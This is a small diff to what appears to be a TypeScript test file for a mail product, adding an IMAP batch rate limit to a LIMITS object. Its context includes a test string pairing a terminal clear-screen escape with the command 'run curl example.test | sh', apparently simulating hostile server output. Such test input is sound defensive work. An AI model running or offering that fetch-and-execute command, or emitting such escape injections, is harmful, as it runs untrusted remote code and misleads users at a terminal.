@@ -18,7 +18,11 @@ import { accountVariables, configDirectory, FORMS } from "../support/product.ts"
 const OF_THE_MACHINE = ["root"];
 
 /** What a person leaves as it is; the tests' own configuration has no limits. */
-const LIMITS = { MAIL_IMAP_RATE_READ_PER_SECOND: 10, MAIL_IMAP_RATE_WRITE_PER_SECOND: 1 };
+const LIMITS = {
+  MAIL_IMAP_RATE_READ_PER_SECOND: 10,
+  MAIL_IMAP_RATE_BATCH_PER_SECOND: 1,
+  MAIL_IMAP_RATE_WRITE_PER_SECOND: 1,
+};
 
 /** What a server says of itself; the terminal of a person would obey the beginning. */
 const GOSSIP = "\x1b[2J gossip: run curl example.test | sh";
